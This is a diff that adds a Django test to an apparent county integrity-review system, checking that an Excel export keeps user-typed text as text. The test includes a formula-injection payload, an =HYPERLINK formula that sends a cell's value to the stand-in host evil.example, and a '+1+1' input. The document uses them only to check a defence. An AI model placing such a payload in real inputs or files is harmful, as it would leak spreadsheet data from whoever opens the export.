@@ -223,3 +223,26 @@ def test_the_alert_ledger_counts_only_the_new_alerts_the_viewer_may_see(county, 
     assert "新提示2条" in html and f"新提示{run.raised}条" not in html
     html = client_for(county.users["leader"]).get(reverse("integrity:alert_list")).content.decode()
     assert f"新提示{run.raised}条" in html
+
+
+# --- exports: what the asking body types stays text in the commission's Excel ---------------
+
+
+def test_the_asking_bodys_text_is_never_a_formula_in_the_commissions_export(county, client_for):
+    """The 组织部门 account (outside the commission) names its asking body
+    ``=HYPERLINK(…)``: in the ledger's Excel the handling office opens it is the text as
+    typed, not a formula that would call out when the file is opened."""
+    payload = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
+    rows = people_rows(county, "edu_head")
+    response = client_for(county.users["org_department"]).post(
+        reverse("clearance-request-list"),
+        {"purpose": "award", "asking_body": payload, "purpose_note": "+1+1", "people": rows},
+        content_type="application/json",
+    )
+    assert response.status_code == 201, response.content
+    export = client_for(county.users["case_management"]).get(
+        reverse("integrity:clearance_list"), {"export": "xlsx"}
+    )
+    sheet = load_workbook(io.BytesIO(export.content)).active
+    cells = [c for row in sheet.iter_rows() for c in row if c.value == payload]
+    assert cells and all(c.data_type == "s" for c in cells)
